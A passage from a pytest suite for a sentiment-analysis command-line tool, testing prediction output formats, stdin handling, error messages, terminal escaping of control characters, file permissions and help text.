    assert item["explanation"]["score"] == item["scores"][item["label"]]
    long = invoke("predict", "--model", out, "--explain", "fine", " ".join(["good"] * 5001))
    assert_error(long, "text 2 has 5,001 words, more than --explain takes")
    assert "fine" not in long.stdout  # refused before the batch is printed
    unknown = invoke("predict", "--model", out, "--explain", "qqq zzz")
    assert_ok(unknown)
    assert "(leaving out any one word changes nothing)" in unknown.stdout


def test_predict_file_with_explanations(model, files, tmp_path):
    out, _ = model
    pipe = Pipeline.load(out)
    source = pd.read_csv(files["dev"])
    explained = pipe.explain(source.review.tolist())
    for name in ("p.csv", "p.jsonl"):
        assert_ok(invoke("predict", "--model", out, "--explain", "--input", files["dev"], "--output", tmp_path / name,
                         "--batch-size", 7))  # several chunks
    table = pd.read_csv(tmp_path / "p.csv")
    assert [json.loads(cell) for cell in table.explanation] == [{k: e[k] for k in ("label", "score", "words")}
                                                                for e in explained]
    lines = [json.loads(line) for line in (tmp_path / "p.jsonl").read_text().splitlines()]
    assert [line["explanation"]["words"] for line in lines] == [e["words"] for e in explained]
    long = tmp_path / "long.csv"  # a text longer than explain takes: refused with its row, no output written
    pd.DataFrame({"review": ["fine", " ".join(["good"] * 5001)]}).to_csv(long, index=False)
    assert_error(invoke("predict", "--model", out, "--explain", "--input", long, "--output", tmp_path / "q.csv"),
                 "data row 2 has 5,001 words, more than --explain takes")
    assert not (tmp_path / "q.csv").exists()


def _check_predictions(frame, source):
    assert list(frame.columns) == ["id", "review", "stars", "source", "label", "score_negative", "score_positive"]
    assert frame.id.astype(str).tolist() == source.id.tolist()
    assert frame.review.tolist() == source.review.tolist()
    truth = source.stars.map({0: "negative", 1: "positive"})
    assert (frame.label == truth).mean() > 0.85
    assert ((frame.score_negative + frame.score_positive - 1).abs() < 1e-5).all()
    assert (frame.label == frame[["score_negative", "score_positive"]].idxmax(axis=1).str[6:]).all()


def test_predict_file_csv_uses_model_text_column(model, files, tmp_path):
    out, _ = model
    target = tmp_path / "predictions.csv"
    result = invoke("predict", "--model", out, "--input", files["dev"], "--output", target)
    assert_ok(result)
    assert f"wrote {len(files['dev_frame'])} predictions" in result.stderr
    _check_predictions(pd.read_csv(target), files["dev_frame"])
    assert [p.name for p in tmp_path.iterdir()] == ["predictions.csv"]


def test_predict_file_to_stdout_prints_what_a_file_would_hold(model, files, tmp_path):
    """--output - prints the predictions (CSV; with --json, JSON Lines) as the file of that format holds them,
    each chunk as it is predicted, and nothing else on stdout."""
    out, _ = model
    for suffix, extra in (("csv", []), ("jsonl", ["--json"])):
        target = tmp_path / f"predictions.{suffix}"
        assert_ok(invoke("predict", "--model", out, "--input", files["dev"], "--output", target))
        printed = invoke("predict", "--model", out, "--input", files["dev"], "--output", "-", "--batch-size", "7", *extra)
        assert_ok(printed)
        assert printed.stdout == target.read_text() and printed.stderr == ""
    assert sorted(p.name for p in tmp_path.iterdir()) == ["predictions.csv", "predictions.jsonl"]  # no file "-"


def test_predict_file_to_stdout_keeps_the_chunks_before_a_bad_row(model, tmp_path):
    """Printed as it goes, the chunks predicted before a row without text stay printed; the error names the row."""
    out, _ = model
    write_table(pd.DataFrame({"review": ["a great film", "an awful film", "", "fine"]}), tmp_path / "in.csv")
    result = invoke("predict", "--model", out, "--input", tmp_path / "in.csv", "--output", "-", "--batch-size", "1")
    assert_error(result, "row 3")
    rows = pd.read_csv(io.StringIO(result.stdout))
    assert rows.review.tolist() == ["a great film", "an awful film"] and rows.label.tolist() == ["positive", "negative"]


def test_predict_input_dash_reads_a_table_piped_in(model, files, tmp_path, monkeypatch):
    """--input - predicts a table piped into stdin as the same table given by its path, whatever its format
    (told by its first bytes); errors about it name "standard input", and its temporary copy is removed."""
    import tempfile

    out, _ = model
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temp"))
    (tmp_path / "temp").mkdir()
    frame = files["dev_frame"]
    frame.to_json(tmp_path / "in.json", orient="records")  # a JSON array of records
    for suffix, extra in (("csv", []), ("tsv", []), ("jsonl", ["--json"]), ("parquet", ["--json"]), ("json", ["--json"])):
        source = tmp_path / f"in.{suffix}"
        if suffix != "json":
            write_table(frame, source)
        given = invoke("predict", "--model", out, "--input", source, "--output", "-", *extra)
        piped = invoke("predict", "--model", out, "--input", "-", "--output", "-", *extra, input=source.read_bytes())
        assert_ok(piped)
        assert piped.stdout == given.stdout and piped.stdout.count("\n") == len(frame) + (not extra)
    write_table(pd.DataFrame({"review": ["a great film", ""], "id": [1, 2]}), tmp_path / "blank.csv")
    blank = invoke("predict", "--model", out, "--input", "-", "--output", tmp_path / "o.csv",
                   input=(tmp_path / "blank.csv").read_bytes())
    assert_error(blank, r"^Error: standard input: data row 2 has no text")
    assert not (tmp_path / "o.csv").exists() and list((tmp_path / "temp").iterdir()) == []
    assert_error(invoke("predict", "--model", out, "--input", "-", "--output", "-", input=b""),
                 "standard input is empty; pipe a table into it")
    assert_error(invoke("predict", "--model", out, "--input", "-", "--output", "-", input=gzip.compress(b"text\ngood\n")),
                 "standard input is gzip-compressed; decompress it into the pipe")
    utf16 = invoke("predict", "--model", out, "--input", "-", "--output", "-", input="text\ngood\n".encode("utf-16"))
    assert_error(utf16, r"standard input is not UTF-8 text .*iconv -f utf-16 -t utf-8 in the pipe$")  # not "IN > OUT"
    assert_error(invoke("predict", "--model", out, "--input", "-", "--output", "-", input=b"PAR1 not parquet"),
                 r"cannot read standard input as Parquet .*; check what is piped in$")


def test_lines_and_tables_on_stdin_mistaken_for_each_other_get_advice(model, tmp_path):
    """Lines of text piped to --input - are refused with the way to predict lines; a CSV piped to `predict -`
    is labelled line by line (texts may look like anything) with a note that --input - reads a table."""
    out, _ = model
    for piped in ("great film\nawful film\n", "great, really great\nawful film\n"):
        lines = invoke("predict", "--model", out, "--input", "-", "--output", "-", input=piped)
        assert_error(lines, "for one text per line, use `sentiment predict -`")
    table = invoke("predict", "--model", out, "-", input="id,review\n1,a great film\n")
    assert_ok(table)
    assert len(table.stdout.splitlines()) == 2
    assert "note: the first line on stdin (id,review) looks like a table's header" in table.stderr
    assert "note" not in invoke("predict", "--model", out, "-", input="a great film\nid, text and review\n").stderr


def test_a_missing_column_that_the_model_named_is_said_to_be_its(model, files, tmp_path):
    """The columns a model remembers (here review and stars) are named as its when a file lacks them, so that a
    name the user never typed is explained; a column given on the command line is not."""
    out, _ = model
    write_table(pd.DataFrame({"text": ["a great film"], "label": ["pos"]}), tmp_path / "plain.csv")
    assert_error(invoke("evaluate", tmp_path / "plain.csv", "--model", out),
                 r"has no column 'review', 'stars'.*\('review' and 'stars': the model's, from its training\)$")
    assert_error(invoke("evaluate", tmp_path / "plain.csv", "--model", out, "--text-column", "text"),
                 r"has no column 'stars'.*\('stars': the model's, from its training\)$")
    for suffix in ("csv", "jsonl"):
        write_table(pd.DataFrame({"text": ["a great film"]}), tmp_path / f"in.{suffix}")
        assert_error(invoke("predict", "--model", out, "--input", tmp_path / f"in.{suffix}", "--output", "-"),
                     r"has no column 'review'.*\('review': the model's, from its training\)$")
        given = invoke("predict", "--model", out, "--input", tmp_path / f"in.{suffix}", "--output", "-", "--text-column", "body")
        assert_error(given, r"has no column 'body'; its columns are: text; name the right one with --text-column$")


def test_predict_file_to_a_terminal_escapes_control_characters(tmp_path, binary):
    """Printed to a terminal, a label's escape sequence is shown escaped, as in the plain output (a pipe or a
    file gets the data as they are)."""
    import pty

    labels = ["pos\x1b[2J" if y == "pos" else "neg" for y in binary.train_labels]
    Pipeline("tfidf", "logreg").fit(binary.train_texts, labels).save(tmp_path / "m")
    write_table(pd.DataFrame({"text": ["a great great film"]}), tmp_path / "in.csv")
    command = [sys.executable, "-m", "sentiment.cli", "predict", "--model", str(tmp_path / "m"), "--input",
               str(tmp_path / "in.csv"), "--output", "-"]
    main, terminal = pty.openpty()
    try:
        done = subprocess.run(command, stdout=terminal, stderr=subprocess.PIPE, timeout=120)
        os.close(terminal)
        shown = b""
        while True:
            try:
                piece = os.read(main, 4096)
            except OSError:  # the terminal's other end is closed: all is read
                break
            if not piece:
                break
            shown += piece
    finally:
        os.close(main)
    assert done.returncode == 0, done.stderr
    assert b"\x1b" not in shown and b"pos\\x1b[2J" in shown
    piped = subprocess.run(command, capture_output=True, timeout=120)
    assert b"pos\x1b[2J" in piped.stdout


def test_json_lines_printed_to_a_terminal_stay_json():
    """With --json, the escapes are JSON's (a C1 control as \\u0085, a character beyond the BMP as a surrogate
    pair), so each line still parses, to the same text."""
    from sentiment.terminal import EscapingWriter

    text = "good\x85film \xad x\u200b \U000e0001 \u202e"
    screen = io.StringIO()
    EscapingWriter(screen, json_text=True).write(json.dumps({"text": text}, ensure_ascii=False) + "\n")
    shown = screen.getvalue()
    assert shown.isascii() and json.loads(shown) == {"text": text}


def test_a_write_protected_output_file_is_kept(model, files, tmp_path):
    """As a write-protected model directory is (the rename at the end would replace the file all the same)."""
    import stat

    out, _ = model
    target = tmp_path / "kept.csv"
    target.write_text("mine\n")
    target.chmod(stat.S_IRUSR | stat.S_IRGRP)
    try:
        assert_error(invoke("predict", "--model", out, "--input", files["dev"], "--output", target),
                     r"--output .*kept.csv is write-protected; make it writable \(chmod u\+w")
        assert target.read_text() == "mine\n"
    finally:
        target.chmod(stat.S_IRUSR | stat.S_IWUSR)


def test_predict_file_jsonl_output_and_chunks(model, files, tmp_path):
    out, _ = model
    target = tmp_path / "predictions.jsonl"
    assert_ok(invoke("predict", "--model", out, "--input", files["dev"], "--output", target, "--batch-size", "7"))
    records = [json.loads(line) for line in target.read_text().splitlines()]
    frame = pd.DataFrame(records)
    _check_predictions(frame, files["dev_frame"])
    whole = tmp_path / "whole.jsonl"
    assert_ok(invoke("predict", "--model", out, "--input", files["dev"], "--output", whole))
    assert whole.read_text() == target.read_text()  # chunking does not change the result


def test_predict_file_from_jsonl_to_tsv(model, files, tmp_path):
    out, _ = model
    source = tmp_path / "in.jsonl"
    write_table(files["dev_frame"], source)
    target = tmp_path / "out.tsv"
    assert_ok(invoke("predict", "--model", out, "--input", source, "--output", target))
    _check_predictions(pd.read_csv(target, sep="\t"), files["dev_frame"])


def test_predict_file_passes_other_columns_through_unchanged(model, tmp_path):
    out, _ = model
    source = tmp_path / "in.jsonl"
    source.write_text('{"text": "A superb film", "p": 0.974349, "id": "x1"}\n{"text": "so dull", "p": 0.1, "id": "x2"}\n')
    assert_ok(invoke("predict", "--model", out, "--input", source, "--output", tmp_path / "o.csv", "--text-column", "text"))
    written = (tmp_path / "o.csv").read_text()
    assert "0.974349," in written and "0.97434899" not in written  # not pandas' imprecise float parsing
    tsv = tmp_path / "o.tsv"  # a tab inside a text is quoted, and the file reads back
    pd.DataFrame({"text": ["good\tfilm", "bad"]}).to_csv(tmp_path / "tab.csv", index=False)
    assert_ok(invoke("predict", "--model", out, "--input", tmp_path / "tab.csv", "--output", tsv, "--text-column", "text"))
    assert_ok(invoke("predict", "--model", out, "--input", tsv, "--output", tmp_path / "again.csv",
                     "--text-column", "text"))
    assert pd.read_csv(tmp_path / "again.csv").text.tolist() == ["good\tfilm", "bad"]
    source = tmp_path / "cr.jsonl"  # a lone carriage return (old Mac line ends) inside a text
    source.write_text('{"text": "good\\rfilm"}\n{"text": "bad"}\n')
    for output in (tmp_path / "cr.csv", tmp_path / "cr.tsv"):
        assert_ok(invoke("predict", "--model", out, "--input", source, "--output", output, "--text-column", "text"))
        assert pd.read_csv(output, sep="," if output.suffix == ".csv" else "\t").text.tolist() == ["good\rfilm", "bad"]


def test_predict_file_text_column_option(model, tmp_path):
    out, _ = model
    source = tmp_path / "in.csv"
    pd.DataFrame({"body": ["A superb film", "so dull"]}).to_csv(source, index=False)
    assert_ok(invoke("predict", "--model", out, "--input", source, "--output", tmp_path / "o.csv",
                     "--text-column", "body"))
    assert pd.read_csv(tmp_path / "o.csv").label.tolist() == ["positive", "negative"]


def test_predictions_file_has_normal_permissions(model, files, tmp_path):
    out, _ = model
    target = tmp_path / "o.csv"
    previous = os.umask(0o022)
    try:
        assert_ok(invoke("predict", "--model", out, "--input", files["dev"], "--output", target))
    finally:
        os.umask(previous)
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o644


def test_predict_with_default_model():
    try:
        default_model_path()
    except ModelFileError:
        assert_error(invoke("predict", "What a wonderful film!"), "default .*model")
        pytest.skip("the default model is not shipped yet")
    result = invoke("predict", "--json", "What a wonderful film!", "Dull and far too long.")
    assert_ok(result)
    assert [item["label"] for item in json.loads(result.stdout)] == ["positive", "negative"]


# -- evaluate ----------------------------------------------------------------------------------------------
def test_evaluate_json_and_report(model, files, tmp_path):
    out, fit_report = model
    result = invoke("evaluate", files["dev"], "--model", out, "--json", "--report", tmp_path / "rep")
    assert_ok(result)
    assert f"wrote the report to {tmp_path / 'rep'} (metrics.json, mistakes.csv, confusion_matrix.png)" in result.stderr
    report = json.loads(result.stdout)  # stdout holds the JSON alone
    assert report["n"] == len(files["dev_frame"])
    assert report["accuracy"] == pytest.approx(fit_report["accuracy"])
    assert report["macro_f1"] == pytest.approx(fit_report["macro_f1"])
    assert sum(map(sum, report["confusion_matrix"])) == report["n"]
    assert json.loads((tmp_path / "rep" / "metrics.json").read_text()) == report  # the model named in both
    assert (tmp_path / "rep" / "confusion_matrix.png").read_bytes()[:4] == b"\x89PNG"
    mistakes = pd.read_csv(tmp_path / "rep" / "mistakes.csv", keep_default_na=False)  # not in the --json output
    assert len(mistakes) == report["n"] - sum(report["confusion_matrix"][i][i] for i in range(2))
    assert (mistakes.label != mistakes.predicted).all()
    inside = tmp_path / "rep" / "mistakes.csv"  # data in the report folder, under a name the report writes
    before = inside.read_bytes()
    assert_error(invoke("evaluate", inside, "--model", out, "--report", tmp_path / "rep"),
                 "is a file that the report writes")
    link = tmp_path / "data.csv"  # also through a link to it
    symlink(link, inside)
    assert_error(invoke("evaluate", link, "--model", out, "--report", tmp_path / "rep"), "is a file that the report writes")
    assert inside.read_bytes() == before
    mine = tmp_path / "project"  # a folder of the user's own files at the report's names: refused, all kept
    mine.mkdir()
    (mine / "metrics.json").write_text('{"my_experiment": 1}')
    (mine / "training_history.png").write_bytes(b"my plot")
    assert_error(invoke("evaluate", files["dev"], "--model", out, "--report", mine),
                 "holds metrics.json, training_history.png, which no report of sentiment wrote")
    assert (mine / "metrics.json").read_text() == '{"my_experiment": 1}' and (mine / "training_history.png").exists()


def test_evaluate_notes_a_file_named_as_the_training_data(model, files):
    out, _ = model
    on_train = invoke("evaluate", files["train"], "--model", out, "--text-column", "review", "--label-column", "stars")
    assert_ok(on_train)
    assert f"note: the model was trained on a file named {files['train'].name}" in on_train.stderr
    on_dev = invoke("evaluate", files["dev"], "--model", out, "--text-column", "review", "--label-column", "stars")
    assert_ok(on_dev)
    assert "note" not in on_dev.stderr
    ensemble = out.parent / "ensemble"  # a member's training file too
    sentiment.Ensemble([sentiment.load(out), sentiment.load(out)]).save(ensemble)
    on_train = invoke("evaluate", files["train"], "--model", ensemble, "--text-column", "review", "--label-column", "stars")
    assert f"note: the model was trained on a file named {files['train'].name}" in on_train.stderr


def test_evaluate_notes_what_a_shipped_model_learnt_from(tmp_path):
    """A shipped model records data sets, not file names: a file named as a training split is noted with them,
    and any other file more softly (the public data sets it learnt from are what a user scores it on)."""
    rows = "text,label\nA wonderful film,positive\nDull and far too long,negative\n"
    (tmp_path / "Laptop_Train.csv").write_text(rows)
    (tmp_path / "reviews.csv").write_text(rows)
    on_train = invoke("evaluate", tmp_path / "Laptop_Train.csv")
    assert_ok(on_train)
    assert "note: the shipped polarity model learnt from SST-2 phrases, IMDB" in on_train.stderr
    assert "if Laptop_Train.csv is one of their training files" in on_train.stderr
    elsewhere = invoke("evaluate", tmp_path / "reviews.csv").stderr  # any file: it may hold rows of those splits
    assert "note: the shipped polarity model learnt from SST-2 phrases, IMDB" in elsewhere
    assert "texts of those training splits in reviews.csv are scored as texts it has seen" in elsewhere
    model = tmp_path / "mine"
    assert_ok(invoke("fit", tmp_path / "Laptop_Train.csv", "--out", model, "--dev", tmp_path / "reviews.csv"))
    assert "note" not in invoke("evaluate", tmp_path / "reviews.csv", "--model", model).stderr  # a model of one's own


def test_evaluate_plain_and_explicit_columns(model, files, tmp_path):
    out, _ = model
    result = invoke("evaluate", files["dev"], "--model", out)
    assert_ok(result)
    assert "accuracy" in result.stdout and "positive" in result.stdout
    renamed = tmp_path / "d.tsv"
    write_table(files["dev_frame"].rename(columns={"review": "t", "stars": "y"}), renamed)
    result = invoke("evaluate", renamed, "--model", out, "--text-column", "t", "--label-column", "y", "--json")
    assert_ok(result)
    assert json.loads(result.stdout)["n"] == len(files["dev_frame"])


# -- options and help -----------------------------------------------------------------------------------------
def test_options_command():
    result = invoke("options")
    assert_ok(result)
    for heading in ("cleaner:", "vectorizer:", "model:", "vectorizers: count, tfidf, word2vec", "models:"):
        assert heading in result.stdout
    for stage, values in Pipeline.options_for("tfidf", "nbsvm").items():
        for key, value in values.items():
            assert (f"  {key} = {json.dumps(value)}" in result.stdout) == (key != "tune_fraction")  # several labels only
    result = invoke("options", "--vectorizer", "word2vec", "--model", "logreg")
    assert_ok(result)
    assert "vector_size = 100" in result.stdout and "nb_alpha" not in result.stdout
    result = invoke("options", "--vectorizer", "word2vec")  # the task's nbsvm cannot read it: logreg
    assert_ok(result)
    assert "vectorizer word2vec, model logreg" in result.stdout and "vector_size = 100" in result.stdout
    assert_error(invoke("options", "--model", "forest"), "unknown model 'forest'")
    several = invoke("options", "--task", "emotion", "--multi-label", "--model", "mlp").stdout
    dev_fraction = next(line for line in several.splitlines() if line.startswith("  dev_fraction = 0.1 "))
    assert dev_fraction.endswith(" (with several labels, used only where no tune part is held out: tune_fraction 0, or "
                                 "too few texts; else early stopping uses the tune part)")
    assert "tune part" not in invoke("options", "--model", "mlp").stdout


def test_a_model_registered_needs_no_other_list(files, tmp_path, monkeypatch):
    """What the README's "Adding a stage" says: a model class registered (and nothing else) is fitted, listed
    with its options, saved, loaded, described and refused by export. (The commands' --help is written
    when the CLI is imported, from the same registry: test_an_option_that_takes_one_of_a_few_names_...)"""
    import sentiment.models.classical as classical
    from sentiment import registry
    from sentiment.models.classical import LogisticRegressionModel

    class Throwaway(LogisticRegressionModel):
        name = "throwaway"
        defaults = {**LogisticRegressionModel.defaults, "C": 2.5}

    monkeypatch.setattr(classical, "Throwaway", Throwaway, raising=False)
    monkeypatch.setitem(registry.REGISTRY["model"], "throwaway", "sentiment.models.classical:Throwaway")
    listed = invoke("options", "--model", "throwaway")
    assert_ok(listed)
    assert "  C = 2.5 " in listed.stdout and listed.stdout.rstrip().splitlines()[-1].endswith(", throwaway")
    out = tmp_path / "m"
    assert_ok(invoke("fit", files["train"], "--text-column", "review", "--label-column", "stars",
                     "--model", "throwaway", "--out", out))
    assert type(sentiment.load(out).model_) is Throwaway
    assert "model: throwaway" in invoke("info", out).stdout
    assert_ok(invoke("predict", "a great film", "--model", out, "--explain"))
    assert_error(invoke("export", out, "--out", tmp_path / "m.pt"), "model 'throwaway' has no torch network")


def test_options_of_a_saved_model_s_folder_points_at_info(tmp_path):
    (tmp_path / "pol").mkdir()
    result = invoke("options", "--model", tmp_path / "pol")
    assert result.exit_code == 1 and result.stderr.count("\n") == 1
    assert f"--model {tmp_path / 'pol'} is a saved model's folder" in result.stderr
    assert result.stderr.rstrip().endswith(f"see its settings with: sentiment info {tmp_path / 'pol'}")


def test_fit_given_a_saved_model_s_folder_as_its_model_points_at_init_from(tmp_path):
    """fit's --model names a kind of model; a folder there is refused before the data are read, with the way to
    start from a saved lstm; as --vectorizer, with the way to see its settings; with --task aspect, which takes
    neither, as any --model is."""
    (tmp_path / "pol").mkdir()
    result = invoke("fit", tmp_path / "absent.csv", "--model", tmp_path / "pol", "--out", tmp_path / "m")
    assert result.exit_code == 1 and result.stderr.count("\n") == 1
    assert f"--model {tmp_path / 'pol'} is a saved model's folder, and fit trains a kind of model" in result.stderr
    assert result.stderr.rstrip().endswith(f"--model lstm --set init_from={tmp_path / 'pol'}")
    vectorizer = invoke("fit", tmp_path / "absent.csv", "--vectorizer", tmp_path / "pol", "--out", tmp_path / "m")
    assert_error(vectorizer, f"^Error: --vectorizer {re.escape(str(tmp_path / 'pol'))} is a saved model's folder, .*; "
                             f"see its settings with: sentiment info {re.escape(str(tmp_path / 'pol'))}$")
    aspect = invoke("fit", tmp_path / "absent.csv", "--task", "aspect", "--model", tmp_path / "pol")
    assert_error(aspect, "--model does not apply to --task aspect")
    assert not (tmp_path / "m").exists()


def test_options_say_in_a_line_what_each_option_does():
    """Each option's line ends with what it does, aligned within its stage; --json gives it as "help"."""
    printed = invoke("options", "--model", "lstm").stdout.splitlines()
    described = json.loads(invoke("options", "--model", "lstm", "--json").stdout)["options"]
    for stage, values in described.items():
        lines = printed[printed.index(f"{stage}:") + 1:][:len(values)]
        for line, (key, option) in zip(lines, values.items()):
            assert line.startswith(f"  {key} = ") and line.endswith(f"  # {option['help']}") and option["help"], line
        assert len({line.index("  # ") for line in lines}) == 1  # one column per stage
    pooling = described["model"]["lstm_pooling"]["help"]  # every pooling the network has
    assert pooling.startswith("how the LSTM's outputs become one vector: ") and pooling.endswith(f' or "{POOLINGS[-1]}"')
    assert all(f'"{name}"' in pooling for name in POOLINGS) and '"max", "mean"' in pooling
    aspect = json.loads(invoke("options", "--task", "aspect", "--json").stdout)["options"]["aspect"]
    assert aspect["contrast"]["help"].startswith("two-opinion sentences")


@pytest.mark.parametrize("command", ["fit", "predict", "evaluate", "clean", "ensemble", "export", "options", "info"])
def test_help_has_examples_printed_whole_to_copy(command):
    result = invoke(command, "--help")
    assert_ok(result)
    callback = next(c.callback for c in app.registered_commands if (c.name or c.callback.__name__) == command)
    documented = [line.strip() for line in callback.__doc__.splitlines() if line.strip().startswith("sentiment ")]
    printed = [line.strip() for line in result.stdout.splitlines() if line.strip().startswith("sentiment ")]
    assert "Examples:" in result.stdout and len(documented) >= 2
    assert printed == documented  # each example on one line, to copy as it is (none split at `--label-`)


@pytest.mark.parametrize("command", [c.name or c.callback.__name__ for c in app.registered_commands])
def test_help_shows_what_each_option_takes_in_capitals(command):
    """An option's value is named for what it is (--model DIR, --task TASK), not by its parser's type name
    ("<_given_path>", "<str>"), which some typer versions print for an option without a metavar."""
    import typer

    result = invoke(command, "--help")
    assert_ok(result)
    options = result.stdout.split("Options:")[1].split("Examples")[0]
    assert "<" not in options
    params = typer.main.get_command(app).commands[command].params  # typer's own click: no isinstance(click.Option)
    taking = [p for p in params if p.param_type_name == "option" and not p.is_flag and p.name != "help"]
    assert taking  # every command takes some value: the check below has something to check
    for param in taking:
        assert re.fullmatch(r"[A-Z][A-Z=,.]*", param.metavar or ""), param.opts
        assert f"{max(param.opts, key=len)} {param.metavar}" in options
    for param in (p for p in params if p.param_type_name == "argument"):  # TEXT..., MODEL...: one or more
        assert param.metavar and param.metavar.endswith("...") == (param.nargs == -1), param.name


def test_an_option_that_takes_one_of_a_few_names_lists_them_in_its_help():
    import typer

    from sentiment.export import FORMATS
    from sentiment.groupings import GROUPINGS
    from sentiment.registry import available
    from sentiment.tasks import TASK_NAMES

    commands = typer.main.get_command(app).commands
    names = {"vectorizer": available("vectorizer"), "model": available("model"), "task": TASK_NAMES,
             "grouping": list(GROUPINGS), "format_": FORMATS}
    checked = 0
    for command in commands.values():
        for param in command.params:
            if param.param_type_name != "option" or param.name not in names or param.metavar == "DIR":  # (DIR: a saved model)
                continue
            choices = ("polarity", "emotion") if (command.name, param.name) == ("clean", "task") else names[param.name]
            assert all(re.search(rf"\b{re.escape(name)}\b", param.help) for name in choices), (command.name, param.help)
            checked += 1
    assert checked == 15  # --task of six commands, --grouping of three, --vectorizer of three, --model of two, --format


@pytest.mark.parametrize("command, usage", [("fit", "[OPTIONS] DATA"), ("ensemble", "[OPTIONS] MODEL..."),
                                            ("info", "[OPTIONS] [MODEL]"), ("predict", "[OPTIONS] [TEXT...]")])
def test_the_usage_line_names_a_required_argument_bare_not_in_the_braces_of_a_choice(command, usage):
    assert invoke(command, "--help").stdout.splitlines()[0].endswith(f" {command} {usage}")
    if "[OPTIONS] [" not in usage:  # a required argument left out: the usage line of the error too
        assert f" {command} {usage}\n" in invoke(command).stderr


def test_top_level_help_lists_every_command_with_a_whole_sentence():
    result = invoke("--help")
    assert_ok(result)
    listed = result.stdout.split("Commands:")[1].splitlines()[1:]
    names = [line.split()[0] for line in listed if line.strip()]
    assert names == [c.name or c.callback.__name__ for c in app.registered_commands]
    assert all(line.rstrip().endswith(".") and not line.rstrip().endswith("...") for line in listed if line.strip())


def test_fit_takes_a_class_weight_dict_as_json(binary_frames, tmp_path):
    data = tmp_path / "train.csv"
    write_table(binary_frames[0].assign(label=binary_frames[0]["label"].map({0: "negative", 1: "positive"})), data)
    result = invoke("fit", data, "--model", "logreg", "--set", 'class_weight={"positive": 3}', "--out", tmp_path / "m")
    assert_ok(result)
    described = json.loads(invoke("info", tmp_path / "m", "--json").stdout)
    assert described["settings"]["model_settings"]["class_weight"] == {"positive": 3.0}
    # the training part holds every class of the file (unlike a cross-validation fold): a misspelling
    assert_error(invoke("fit", data, "--set", 'class_weight={"good": 3}', "--out", tmp_path / "n"),
                 "class_weight names 'good', which no training text has as its label; name the labels as the data do: "
                 "negative, positive")
    assert not (tmp_path / "n").exists()


def test_fit_weighs_the_texts_by_a_weight_column(binary_frames, tmp_path):
    train = binary_frames[0].assign(w=1.0)
    write_table(train, tmp_path / "t.csv")
    for out, extra in (("plain", []), ("ones", ["--weight-column", "w"])):
        assert_ok(invoke("fit", tmp_path / "t.csv", "--model", "logreg", "--out", tmp_path / out, *extra))
    texts = binary_frames[1]["text"].tolist()
    plain, ones = sentiment.load(tmp_path / "plain"), sentiment.load(tmp_path / "ones")
    assert (ones.predict_proba(texts) == plain.predict_proba(texts)).all()  # weights of 1 change nothing
    assert json.loads(invoke("info", tmp_path / "ones", "--json").stdout)["data"]["weight_column"] == "w"
    write_table(train.assign(w=[5.0 if y == 0 else 1.0 for y in train["label"]]), tmp_path / "heavy.csv")
    result = invoke("fit", tmp_path / "heavy.csv", "--model", "logreg", "--weight-column", "w", "--out", tmp_path / "h")
    assert_ok(result)
    assert " weighted by column 'w'; dev:" in result.stderr
    heavy = sentiment.load(tmp_path / "h")
    assert heavy.predict_proba(texts)[:, 0].mean() > plain.predict_proba(texts)[:, 0].mean() + 0.02
    # the carve: the texts of the scored model, each with its weight (--no-refit keeps that model)
    weights = np.random.default_rng(0).uniform(0.2, 3.0, len(train))
    write_table(train.assign(w=weights), tmp_path / "random.csv")
    assert_ok(invoke("fit", tmp_path / "random.csv", "--model", "logreg", "--weight-column", "w", "--no-refit",
                     "--out", tmp_path / "r"))
    from sentiment.splits import train_dev_split

    rows, kept_labels, _, _ = train_dev_split(list(range(len(train))), train["label"].tolist(), 0.1, 0)
    by_hand = sentiment.Pipeline("tfidf", "logreg").fit([train["text"][i] for i in rows], kept_labels,
                                                        sample_weight=weights[rows])
    np.testing.assert_allclose(sentiment.load(tmp_path / "r").predict_proba(texts), by_hand.predict_proba(texts))
    # a class whose only weighted text the carve would take keeps it in training
    labels = train["label"].tolist()
    _, _, dev_rows, _ = train_dev_split(list(range(len(train))), labels, 0.1, 0)
    lone = next(i for i in dev_rows if labels[i] == 0)
    write_table(train.assign(w=[1.0 if y == 1 or i == lone else 0.0 for i, y in enumerate(labels)]), tmp_path / "lone.csv")
    assert_ok(invoke("fit", tmp_path / "lone.csv", "--model", "logreg", "--weight-column", "w", "--out", tmp_path / "l"))
    write_table(train.assign(w=["x"] + [1.0] * (len(train) - 1)), tmp_path / "bad.csv")
    assert_error(invoke("fit", tmp_path / "bad.csv", "--weight-column", "w", "--out", tmp_path / "b"),
                 r"bad.csv: data row 1 of column 'w' holds 'x'; not a weight; weights must be 0 or from 1e-06 to 1e\+06")
    write_table(train.assign(w=[1.0, None] + [1.0] * (len(train) - 2)), tmp_path / "gap.csv")
    assert_error(invoke("fit", tmp_path / "gap.csv", "--weight-column", "w", "--out", tmp_path / "b"),
                 r"data row 2 of column 'w' holds nothing; not a weight")
    assert_error(invoke("fit", tmp_path / "t.csv", "--weight-column", "weight", "--out", tmp_path / "b"),
                 r"has no column 'weight'; its columns are: text, label, w; name the column of weights with --weight-column")
    (tmp_path / "trees.txt").write_text(SST_TREES * 3)
    assert_error(invoke("fit", tmp_path / "trees.txt", "--weight-column", "w", "--out", tmp_path / "b"),
                 "--weight-column goes with a table of texts; SST trees have no columns")
    assert not (tmp_path / "b").exists()


def test_version_prints_the_package_version_and_runs_no_command():
    result = invoke("--version")
    assert_ok(result)
    assert result.stdout == f"sentiment {sentiment.__version__}\n"
    assert invoke("--version", "predict", "good").stdout == result.stdout  # eager: the command is not run


def test_python_dash_m_runs_the_command():
    import subprocess

    result = subprocess.run([sys.executable, "-m", "sentiment", "--version"], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0 and result.stdout == f"sentiment {sentiment.__version__}\n", result.stderr


# -- errors ---------------------------------------------------------------------------------------------------
@pytest.fixture
def bad_files(tmp_path):
    paths = {}
    paths["latin"] = tmp_path / "latin.csv"
    paths["latin"].write_bytes("text,label\ncafé crème great,1\nbad,0\n".encode("latin-1"))
    paths["empty"] = tmp_path / "empty.csv"
    paths["empty"].write_bytes(b"")
    paths["header"] = tmp_path / "header.csv"
    paths["header"].write_text("text,label\n")
    paths["columns"] = tmp_path / "columns.csv"
    pd.DataFrame({"review": ["a", "b"], "stars": [1, 0]}).to_csv(paths["columns"], index=False)
    paths["one_class"] = tmp_path / "one.csv"
    pd.DataFrame({"text": [f"good {i}" for i in range(10)], "label": [1] * 10}).to_csv(paths["one_class"], index=False)
    paths["blank_text"] = tmp_path / "blank_text.csv"
